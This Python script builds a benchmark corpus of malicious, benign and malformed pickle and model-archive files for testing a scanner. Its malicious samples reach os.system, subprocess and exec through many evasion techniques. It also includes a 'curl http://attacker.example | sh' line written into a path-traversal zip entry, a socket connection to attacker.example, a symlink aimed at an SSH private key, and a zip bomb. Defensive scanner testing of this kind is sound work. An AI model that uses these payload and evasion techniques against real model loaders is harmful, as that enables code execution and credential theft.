"""Write the pickle-family benchmark corpus: malicious, benign (real-shaped) and malformed samples.

Malicious pickles are assembled opcode by opcode, so nothing here ever defines or runs a payload; the
"commands" they would run only touch a marker file under the corpus folder. Benign samples are built with
``pickle.dumps`` of plain data, numpy arrays and (when installed) scikit-learn/joblib objects, plus
hand-written torch-format checkpoints (no torch needed).

    python bench/scanner/corpus_pickle.py OUT_DIR
"""

from __future__ import annotations

import gzip
import io
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from collections import OrderedDict
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from corpus_common import Sample  # noqa: E402

MARK, STOP, TUPLE, REDUCE, BUILD, EMPTY_DICT, EMPTY_TUPLE = b"(", b".", b"t", b"R", b"b", b"}", b")"
STACK_GLOBAL, MEMOIZE, NEWOBJ, NEWOBJ_EX = b"\x93", b"\x94", b"\x81", b"\x92"
OBJ, TUPLE1, TUPLE2 = b"o", b"\x85", b"\x86"
TORCH_MAGIC = (0x1950A86A20F9469CFC6C).to_bytes(10, "little")


# --- opcode helpers -------------------------------------------------------------------------------------------------

def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def s(text: str) -> bytes:
    """SHORT_BINUNICODE (or BINUNICODE when long)."""
    raw = text.encode()
    return (b"\x8c" + bytes([len(raw)]) if len(raw) < 256 else b"X" + struct.pack("<I", len(raw))) + raw


def g0(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def sg(module: str, name: str) -> bytes:
    return s(module) + s(name) + STACK_GLOBAL


def binbytes(raw: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(raw)) + raw


def call(func: bytes, *args: bytes) -> bytes:
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def marker_cmd(out: Path) -> str:
    return f"touch {out / 'PWNED_MARKER'}"


def wrap(body: bytes, protocol: int = 4) -> bytes:
    return proto(protocol) + body + STOP


def rebuild_tensor(key: str, numel: int) -> bytes:
    """A torch `_rebuild_tensor_v2(storage, 0, (numel,), (1,), False, OrderedDict())` with a persistent id."""
    pid = MARK + s("storage") + sg("torch", "FloatStorage") + s(key) + s("cpu") + b"J" + struct.pack("<i", numel)
    pid += TUPLE + b"Q"
    args = (pid + b"K\x00" + b"J" + struct.pack("<i", numel) + TUPLE1 + b"K\x01" + TUPLE1 + b"\x89"
            + sg("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE)
    return call(sg("torch._utils", "_rebuild_tensor_v2"), args)


def state_dict_pickle(tensors: dict[str, int], extra: bytes = b"") -> bytes:
    """data.pkl of a torch checkpoint: OrderedDict of tensors (hand-written, protocol 2 like torch.save)."""
    body = sg("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + MARK
    for i, (name, numel) in enumerate(tensors.items()):
        body += s(name) + rebuild_tensor(str(i), numel)
    body += b"u" + extra
    return wrap(body, 2 if not extra else 4)


def torch_zip(path: Path, data_pkl: bytes, tensors: dict[str, int], *, extra: dict[str, bytes] | None = None,
              prefix: str = "archive", dup_pkl: bytes | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", data_pkl)
        if dup_pkl is not None:
            z.writestr(f"{prefix}/data.pkl", dup_pkl)
        z.writestr(f"{prefix}/byteorder", "little")
        for i, numel in enumerate(tensors.values()):
            z.writestr(f"{prefix}/data/{i}", struct.pack(f"<{numel}f", *([0.5] * numel)))
        z.writestr(f"{prefix}/version", "3\n")
        z.writestr(f"{prefix}/.data/serialization_id", "1234567890")
        for name, raw in (extra or {}).items():
            z.writestr(f"{prefix}/{name}", raw)
    return path


def patch_zip(path: Path, member_suffix: str, *, crc: int | None = None, set_flags: int = 0) -> None:
    """Rewrite a member's CRC or flag bits in both the local header and the central directory."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        infos = [i for i in z.infolist() if i.filename.endswith(member_suffix)]
    for info in infos:
        local = info.header_offset
        cd = data.find(b"PK\x01\x02")
        while cd != -1:
            name_len = struct.unpack("<H", data[cd + 28:cd + 30])[0]
            if data[cd + 46:cd + 46 + name_len].decode() == info.filename:
                break
            cd = data.find(b"PK\x01\x02", cd + 4)
        if cd == -1:
            raise ValueError(f"central directory entry for {info.filename} not found")
        if crc is not None:
            data[local + 14:local + 18] = struct.pack("<I", crc)
            data[cd + 16:cd + 20] = struct.pack("<I", crc)
        if set_flags:
            flags = struct.unpack("<H", data[local + 6:local + 8])[0] | set_flags
            data[local + 6:local + 8] = struct.pack("<H", flags)
            data[cd + 8:cd + 10] = struct.pack("<H", flags)
    path.write_bytes(bytes(data))


def patch_local_name(path: Path, member_suffix: str, new_name: str) -> None:
    """Give a member a different name in its local header than in the central directory (same length)."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = next(i for i in z.infolist() if i.filename.endswith(member_suffix))
    if len(new_name.encode()) != len(info.filename.encode()):
        raise ValueError("the new name must have the same length")
    start = info.header_offset + 30
    data[start:start + len(new_name)] = new_name.encode()
    path.write_bytes(bytes(data))


def npy_object(payload_pickle: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (2,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload_pickle


def npy_float(n: int) -> bytes:
    header = f"{{'descr': '<f4', 'fortran_order': False, 'shape': ({n},), }}"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + b"\x00" * (4 * n)


# --- the corpus ---------------------------------------------------------------------------------------------------

def malicious(out: Path) -> list[tuple[str, str, bytes]]:
    """(file name, technique, bytes) of every malicious sample."""
    cmd = marker_cmd(out)
    sys_call = call(sg("os", "system"), s(cmd))
    items: list[tuple[str, str, bytes]] = [
        ("p0_os_system.pkl", "GLOBAL os.system, protocol 0 text pickle",
         g0("os", "system") + b"(S'" + cmd.encode() + b"'\ntR."),
        ("p2_posix_system.pkl", "GLOBAL posix.system, protocol 2", wrap(call(g0("posix", "system"), s(cmd)), 2)),
        ("p4_stack_global_exec.pkl", "STACK_GLOBAL builtins.exec",
         wrap(call(sg("builtins", "exec"), s(f"import os; os.system({cmd!r})")))),
        ("memo_stack_global.pkl", "STACK_GLOBAL on strings fetched from the memo (BINPUT/BINGET)",
         wrap(s("builtins") + b"q\x01" + b"0" + s("eval") + b"q\x02" + b"0" + b"h\x01" + b"h\x02" + STACK_GLOBAL
              + MARK + s(f"__import__('os').system({cmd!r})") + TUPLE + REDUCE)),
        ("memoize_long_binget.pkl", "STACK_GLOBAL via MEMOIZE + LONG_BINGET",
         wrap(s("subprocess") + MEMOIZE + b"0" + s("check_output") + MEMOIZE + b"0"
              + b"j" + struct.pack("<I", 0) + b"j" + struct.pack("<I", 1) + STACK_GLOBAL
              + MARK + MARK + s("sh") + s("-c") + s(cmd) + b"l" + TUPLE + REDUCE)),
        ("text_memo.pkl", "protocol 0 PUT/GET text memo feeding GLOBAL-free INST",
         b"(S'" + cmd.encode() + b"'\np0\ng0\nios\nsystem\n."),
        ("inst_popen.pkl", "INST subprocess.Popen",
         b"((S'sh'\nS'-c'\nS'" + cmd.encode() + b"'\nlisubprocess\nPopen\n."),
        ("obj_popen.pkl", "OBJ with subprocess.Popen",
         wrap(MARK + sg("subprocess", "Popen") + MARK + s("sh") + s("-c") + s(cmd) + b"l" + OBJ)),
        ("newobj_popen.pkl", "NEWOBJ subprocess.Popen",
         wrap(sg("subprocess", "Popen") + MARK + s("sh") + s("-c") + s(cmd) + b"l" + TUPLE1 + NEWOBJ)),
        ("newobj_ex_popen.pkl", "NEWOBJ_EX subprocess.Popen",
         wrap(sg("subprocess", "Popen") + MARK + s("sh") + s("-c") + s(cmd) + b"l" + TUPLE1 + EMPTY_DICT + NEWOBJ_EX)),
        ("build_setstate_unknown.pkl", "BUILD (__setstate__) on an object of a non-allowlisted class",
         wrap(sg("evil_plugins.hooks", "Loader") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + s("cmd") + s(cmd) + b"s"
              + BUILD)),
        ("runpy_run_code.pkl", "runpy._run_code",
         wrap(call(sg("runpy", "_run_code"), s(f"import os;os.system({cmd!r})"), EMPTY_DICT))),
        ("pip_main.pkl", "pip.main install (runs setup code)",
         wrap(call(sg("pip", "main"), MARK + s("install") + s("evil-package") + b"l"))),
        ("ensurepip_run_pip.pkl", "ensurepip._run_pip (advisory class: missing blocklist entry)",
         wrap(call(sg("ensurepip", "_run_pip"), MARK + s("install") + s("evil-package") + b"l"))),
        ("importlib_import_module.pkl", "importlib.import_module then attribute call",
         wrap(call(sg("importlib", "import_module"), s("os")))),
        ("pkgutil_resolve_name.pkl", "pkgutil.resolve_name('os:system') then call",
         wrap(call(sg("pkgutil", "resolve_name"), s("os:system")) + MARK + s(cmd) + TUPLE + REDUCE)),
        ("operator_attrgetter.pkl", "operator.attrgetter chain on an imported module",
         wrap(call(sg("operator", "attrgetter"), s("system"))
              + MARK + call(sg("builtins", "__import__"), s("os")) + TUPLE + REDUCE + MARK + s(cmd) + TUPLE + REDUCE)),
        ("operator_methodcaller.pkl", "_operator.methodcaller('system', cmd)",
         wrap(call(sg("_operator", "methodcaller"), s("system"), s(cmd))
              + MARK + call(sg("importlib", "import_module"), s("os")) + TUPLE + REDUCE)),
        ("functools_partial.pkl", "functools.partial(os.system, cmd)",
         wrap(call(sg("functools", "partial"), sg("os", "system"), s(cmd)) + EMPTY_TUPLE + REDUCE)),
        ("getattr_walk.pkl", "builtins.getattr attribute walk",
         wrap(call(sg("builtins", "getattr"), call(sg("builtins", "__import__"), s("os")), s("system"))
              + MARK + s(cmd) + TUPLE + REDUCE)),
        ("ext1_code.pkl", "EXT1 extension-registry code instead of a named global",
         wrap(b"\x82\x01" + MARK + s(cmd) + TUPLE + REDUCE, 2)),
        ("ext2_code.pkl", "EXT2 extension-registry code", wrap(b"\x83\x10\x27" + MARK + s(cmd) + TUPLE + REDUCE, 2)),
        ("concat_second_stream.pkl", "benign first stream, payload in a concatenated second stream",
         pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) + wrap(sys_call)),
        ("payload_then_garbage.pkl", "payload then an invalid opcode (parser bail-out)",
         proto(4) + sys_call + b"\xff\xfe" + b"garbage"),
        ("timeit_timeit.pkl", "timeit.timeit runs a code string", wrap(call(sg("timeit", "timeit"), s(
            f"__import__('os').system({cmd!r})"), b"K\x01"))),
        ("cprofile_run.pkl", "cProfile.run runs a code string", wrap(call(sg("cProfile", "run"), s(
            f"__import__('os').system({cmd!r})")))),
        ("asyncio_subprocess.pkl", "submodule of a blocked package (asyncio.subprocess)",
         wrap(call(sg("asyncio.subprocess", "create_subprocess_shell"), s(cmd)))),
        ("numpy_runstring.pkl", "numpy.testing._private.utils.runstring",
         wrap(call(sg("numpy.testing._private.utils", "runstring"), s(f"import os;os.system({cmd!r})"), EMPTY_DICT))),
        ("torch_hub_load.pkl", "torch.hub.load (downloads and runs repository code)",
         wrap(call(sg("torch.hub", "load"), s("attacker/repo"), s("model")))),
        ("qualname_torch_load.pkl", "dotted qualname STACK_GLOBAL('torch', 'serialization.load')",
         wrap(call(sg("torch", "serialization.load"), s("other.pt")))),
        ("py2_builtin_eval.pkl", "__builtin__.eval (Python 2 alias)",
         g0("__builtin__", "eval") + b"(S'__import__(\"os\").system(\"" + cmd.encode() + b"\")'\ntR."),
        ("webbrowser_open.pkl", "webbrowser.open", wrap(call(sg("webbrowser", "open"), s("http://attacker.example/")))),
        ("socket_connect.pkl", "socket.create_connection",
         wrap(call(sg("socket", "create_connection"), s("attacker.example") + b"M" + struct.pack("<H", 4444)
                   + TUPLE2))),
        ("marshal_code.pkl", "marshal.loads + types.FunctionType",
         wrap(call(sg("types", "FunctionType"), call(sg("marshal", "loads"), binbytes(b"\xe3" + b"\x00" * 40)),
                   EMPTY_DICT))),
        ("shutil_rmtree.pkl", "shutil.rmtree", wrap(call(sg("shutil", "rmtree"), s(str(out / "victim"))))),
        ("code_interact.pkl", "code.InteractiveInterpreter().runsource",
         wrap(call(sg("code", "InteractiveInterpreter")))),
        ("unknown_function.pkl", "call of a function outside every list (allowlist-only catch)",
         wrap(call(sg("evil_helpers.loader", "fetch_and_run"), s("http://attacker.example/x")))),
        ("numpy_load_pickle.pkl", "numpy.load with allow_pickle=True",
         wrap(sg("numpy", "load") + MARK + s("other.npy") + b"\x88" + TUPLE + REDUCE)),
        ("framed_p5_exec.pkl", "protocol 5 FRAME-wrapped exec",
         proto(5) + b"\x95" + struct.pack("<Q", len(call(sg("builtins", "exec"), s(cmd))) + 1)
         + call(sg("builtins", "exec"), s(cmd)) + STOP),
    ]
    inner = wrap(sys_call)
    items.append(("nested_load_from_bytes.pkl", "torch.storage._load_from_bytes on an embedded malicious pickle",
                  wrap(call(sg("torch.storage", "_load_from_bytes"), binbytes(inner)))))
    items.append(("legacy_torch.pt", "legacy torch.save format (magic-number pickle) with a payload",
                  wrap(b"\x8a\x0a" + TORCH_MAGIC, 2) + wrap(b"M\xe9\x03", 2)
                  + wrap(EMPTY_DICT, 2) + wrap(sys_call, 2) + wrap(b"]", 2)))
    items.append(("evil_model.safetensors", "pickle named .safetensors (extension bypass)", wrap(sys_call)))
    items.append(("notes.txt", "protocol 0 pickle named .txt", g0("os", "system") + b"(S'" + cmd.encode() + b"'\ntR."))
    items.append(("weights.bin", "pickle named .bin", wrap(sys_call, 2)))
    items.append(("model.npy", "object-dtype .npy whose array pickle runs a command",
                  npy_object(wrap(sys_call, 3))))
    items.append(("joblib_model.joblib", "joblib-style pickle with a payload",
                  wrap(sg("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + b"0" + sys_call)))
    items.append(("model.pkl.gz", "gzip-compressed pickle", gzip.compress(wrap(sys_call))))
    items.append(("model.joblib.z", "zlib-compressed pickle (joblib compress)", zlib.compress(wrap(sys_call))))
    return items


def benign(out: Path) -> list[tuple[str, str, bytes]]:
    """(file name, kind, bytes) of benign real-shaped samples."""
    import numpy as np

    items: list[tuple[str, str, bytes]] = []
    data = {"name": "model", "layers": [1, 2, 3], "ratio": 0.5, "blob": b"\x00\x01", "nested": {"a": (1, 2)}}
    for p in range(6):
        items.append((f"plain_p{p}.pkl", f"plain data pickle, protocol {p}", pickle.dumps(data, protocol=p)))
    items.append(("ordered.pkl", "OrderedDict + set + frozenset",
                  pickle.dumps(OrderedDict(a={1, 2}, b=frozenset({3}), c=bytearray(b"xy")), protocol=4)))
    arrays = {"w": np.arange(12, dtype=np.float32).reshape(3, 4), "b": np.zeros(4, dtype=np.int64)}
    for p in (2, 3, 4, 5):
        items.append((f"numpy_p{p}.pkl", f"numpy arrays pickled, protocol {p}", pickle.dumps(arrays, protocol=p)))
    try:
        from sklearn.ensemble import RandomForestClassifier
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import Pipeline
        from sklearn.preprocessing import StandardScaler

        x = np.random.default_rng(0).random((40, 4))
        y = (x[:, 0] > 0.5).astype(int)
        pipe = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(x, y)
        forest = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(x, y)
        items.append(("sklearn_pipeline.pkl", "scikit-learn pipeline (pickle.dumps)", pickle.dumps(pipe, protocol=5)))
        items.append(("sklearn_forest.pkl", "scikit-learn random forest", pickle.dumps(forest, protocol=4)))
        import joblib

        buf = io.BytesIO()
        path = out / "_tmp.joblib"
        joblib.dump({"pipe": pipe, "forest": forest, "array": np.ones((5, 5))}, path)
        items.append(("sklearn.joblib", "joblib.dump of scikit-learn models and arrays", path.read_bytes()))
        path.unlink()
        joblib.dump(pipe, path, compress=3)
        items.append(("sklearn_compressed.joblib", "joblib.dump compress=3 (zlib)", path.read_bytes()))
        path.unlink()
        del buf
    except ImportError:
        pass
    tensors = {"layer.weight": 16, "layer.bias": 4}
    items.append(("legacy_checkpoint.pt", "legacy torch.save format, benign",
                  wrap(b"\x8a\x0a" + TORCH_MAGIC, 2) + wrap(b"M\xe9\x03", 2) + wrap(EMPTY_DICT, 2)
                  + state_dict_pickle(tensors) + wrap(b"]", 2) + b"\x00" * 80))
    items.append(("training_args.bin", "transformers TrainingArguments pickle (training_args.bin)",
                  wrap(sg("transformers.training_args", "TrainingArguments") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT
                       + s("output_dir") + s("out") + b"s" + s("learning_rate") + b"G" + struct.pack(">d", 5e-5) + b"s"
                       + BUILD)))
    items.append(("arrays.npy", "float32 .npy", npy_float(64)))
    return items


def write_corpus(out_dir: Path) -> list[Sample]:
    """Write every sample under ``out_dir/pickle`` and return their labels."""
    out = Path(out_dir) / "pickle"
    for sub in ("malicious", "benign", "malformed"):
        (out / sub).mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []
    mal = out / "malicious"
    for name, technique, raw in malicious(out):
        (mal / name).write_bytes(raw)
        samples.append(Sample(mal / name, "malicious", technique))
    samples += _malicious_containers(out, mal)
    ben = out / "benign"
    for name, kind, raw in benign(out):
        (ben / name).write_bytes(raw)
        samples.append(Sample(ben / name, "benign", kind))
    samples += _benign_containers(ben)
    samples += _malformed(out / "malformed")
    return samples


def _malicious_containers(out: Path, mal: Path) -> list[Sample]:
    cmd = marker_cmd(out)
    payload = wrap(call(sg("os", "system"), s(cmd)), 2)
    tensors = {"fc.weight": 8, "fc.bias": 2}
    good = state_dict_pickle(tensors)
    evil_state = state_dict_pickle(tensors, extra=b"0" + call(sg("os", "system"), s(cmd)) + b"0"
                                   + sg("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE)
    samples = []

    def add(path: Path, technique: str) -> None:
        samples.append(Sample(path, "malicious", technique))

    add(torch_zip(mal / "torch_data_pkl.pt", evil_state, tensors), "torch zip whose data.pkl runs a command")
    add(torch_zip(mal / "torch_extra_pkl.pt", good, tensors, extra={"extra/hook.pkl": payload}),
        "torch zip with an extra .pkl member")
    add(torch_zip(mal / "torch_other_name.pt", good, tensors, extra={"extra/state.bin": payload}),
        "torch zip with a pickle member under a non-.pkl name")
    p = torch_zip(mal / "torch_bad_crc.pt", evil_state, tensors)
    patch_zip(p, "data.pkl", crc=0xDEADBEEF)
    add(p, "torch zip with a wrong CRC on data.pkl (strict readers abort, torch loads)")
    p = torch_zip(mal / "torch_encrypted_flag.pt", evil_state, tensors)
    patch_zip(p, "data.pkl", set_flags=0x1)
    add(p, "torch zip with the encrypted flag bit set on data.pkl")
    p = torch_zip(mal / "torch_name_mismatch.pt", evil_state, tensors)
    patch_local_name(p, "data.pkl", "archive/data.pkX")
    add(p, "torch zip whose local header names data.pkl differently from the central directory")
    add(torch_zip(mal / "torch_duplicate.pt", good, tensors, dup_pkl=evil_state),
        "torch zip with two data.pkl members (benign first, payload second)")
    add(torch_zip(mal / "torch_model.bin", evil_state, tensors, prefix="pytorch_model"),
        "torch zip named .bin with a custom archive prefix")
    with zipfile.ZipFile(mal / "traversal.zip", "w") as z:
        z.writestr("../../.bashrc", "curl http://attacker.example | sh\n")
        z.writestr("model/data.pkl", payload)
    add(mal / "traversal.zip", "zip member names with '..' plus a pickle payload")
    with zipfile.ZipFile(mal / "weights.npz", "w") as z:
        z.writestr("w.npy", npy_float(8))
        z.writestr("meta.npy", npy_object(wrap(call(sg("os", "system"), s(cmd)), 3)))
    add(mal / "weights.npz", "npz with an object-dtype member holding a payload")
    with tarfile.open(mal / "model.tar", "w") as t:
        _tar_add(t, "model/pytorch_model.bin", payload)
    add(mal / "model.tar", "tar wrapper around a malicious pickle")
    with tarfile.open(mal / "model.tar.gz", "w:gz") as t:
        _tar_add(t, "model.pkl", payload)
    add(mal / "model.tar.gz", "tar.gz wrapper around a malicious pickle")
    with tarfile.open(mal / "link.tar", "w") as t:
        info = tarfile.TarInfo("model/config.json")
        info.type = tarfile.SYMTYPE
        info.linkname = "../../../../home/user/.ssh/id_rsa"
        t.addfile(info)
        _tar_add(t, "model/model.pkl", payload)
    add(mal / "link.tar", "tar with a symlink escaping the folder plus a payload")
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w") as z:
        z.writestr("inner/data.pkl", payload)
    with tarfile.open(mal / "nested.tar", "w") as t:
        _tar_add(t, "bundle.zip", nested.getvalue())
    add(mal / "nested.tar", "pickle inside a zip inside a tar")
    try:
        import py7zr

        with py7zr.SevenZipFile(mal / "model.7z", "w") as z:
            z.writestr(payload, "model/model.pkl")
        add(mal / "model.7z", "7z wrapper around a malicious pickle")
    except ImportError:
        pass
    ts = io.BytesIO()
    with zipfile.ZipFile(mal / "torchscript.pt", "w") as z:
        z.writestr("m/data.pkl", wrap(sg("__torch__.Model", "Model") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + BUILD, 2))
        z.writestr("m/constants.pkl", wrap(call(sg("os", "system"), s(cmd)), 2))
        z.writestr("m/code/__torch__/model.py", "class Model(Module):\n  def forward(self, x):\n    return x\n")
        z.writestr("m/version", "3\n")
    del ts
    add(mal / "torchscript.pt", "TorchScript archive whose constants.pkl names os.system")
    return samples


def _benign_containers(ben: Path) -> list[Sample]:
    tensors = {"embed.weight": 64, "fc.weight": 32, "fc.bias": 4}
    samples = [Sample(torch_zip(ben / "pytorch_model.bin", state_dict_pickle(tensors), tensors, prefix="pytorch_model"),
                      "benign", "hand-written torch zip checkpoint (torch.save layout)")]
    samples.append(Sample(torch_zip(ben / "checkpoint.pt", state_dict_pickle(tensors), tensors), "benign",
                          "torch zip checkpoint, archive/ prefix"))
    with zipfile.ZipFile(ben / "arrays.npz", "w") as z:
        z.writestr("a.npy", npy_float(16))
        z.writestr("b.npy", npy_float(4))
    samples.append(Sample(ben / "arrays.npz", "benign", "npz of float arrays"))
    with tarfile.open(ben / "bundle.tar.gz", "w:gz") as t:
        _tar_add(t, "model/data.pkl", pickle.dumps({"a": [1, 2, 3]}, protocol=4))
        _tar_add(t, "model/README.md", b"# model\n")
    samples.append(Sample(ben / "bundle.tar.gz", "benign", "tar.gz with a data pickle and a README"))
    with zipfile.ZipFile(ben / "torchscript.pt", "w") as z:
        z.writestr("m/data.pkl", wrap(sg("__torch__.Model", "Model") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + BUILD, 2))
        z.writestr("m/constants.pkl", wrap(MARK + call(sg("torch.jit._pickle", "build_intlist"),
                                                       b"]" + MARK + b"K\x01K\x02e") + TUPLE, 2))
        z.writestr("m/code/__torch__/model.py", "class Model(Module):\n  def forward(self, x):\n    return x\n")
        z.writestr("m/version", "3\n")
    samples.append(Sample(ben / "torchscript.pt", "benign", "TorchScript-shaped archive"))
    return samples


def _tar_add(t: tarfile.TarFile, name: str, raw: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(raw)
    t.addfile(info, io.BytesIO(raw))


def _malformed(out: Path) -> list[Sample]:
    good = pickle.dumps({"a": list(range(100))}, protocol=4)
    files = {
        "truncated.pkl": (good[: len(good) // 2], "pickle cut in half"),
        "bad_opcode.pkl": (proto(4) + b"\xff" * 16, "invalid opcode after PROTO"),
        "random.bin": (bytes((i * 7919 + 13) % 256 for i in range(4096)), "pseudo-random bytes"),
        "huge_length.pkl": (proto(4) + b"\x8d" + struct.pack("<Q", 2**62) + b"x", "BINUNICODE8 claiming 2^62 bytes"),
        "deep_nesting.pkl": (proto(4) + b"]" * 200_000 + STOP, "200k nested empty lists (recursion bomb)"),
        "mark_bomb.pkl": (proto(4) + MARK * 300_000 + STOP, "300k MARKs"),
        "bad_zip.pt": (b"PK\x03\x04" + b"\x00" * 60, "zip local header with no central directory"),
        "bad_npy.npy": (b"\x93NUMPY\x01\x00\xff\xff{'descr': '<f4'", "npy header length past the end"),
        "bad_npy_literal.npy": (b"\x93NUMPY\x01\x00\x20\x00" + b"__import__('os').system('x')    \n",
                                "npy header that is code, not a literal"),
        "empty.pkl": (b"", "empty file"),
        "bad_gzip.pkl.gz": (b"\x1f\x8b\x08\x00" + b"\xff" * 32, "damaged gzip stream"),
    }
    samples = []
    for name, (raw, what) in files.items():
        (out / name).write_bytes(raw)
        samples.append(Sample(out / name, "malformed", what))
    with zipfile.ZipFile(out / "zip_bomb.zip", "w", zipfile.ZIP_DEFLATED) as z, \
            z.open("data.pkl", "w", force_zip64=True) as member:
        block = b"\x00" * (1 << 20)
        for _ in range(300):
            member.write(block)
    samples.append(Sample(out / "zip_bomb.zip", "malformed", "300 MB of zeros deflated (ratio ~1000x)"))
    return samples


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "bench/out")
    written = write_corpus(target)
    for sample in written:
        print(f"{sample.label:9} {sample.path}  {sample.technique}")
    print(f"{len(written)} samples")
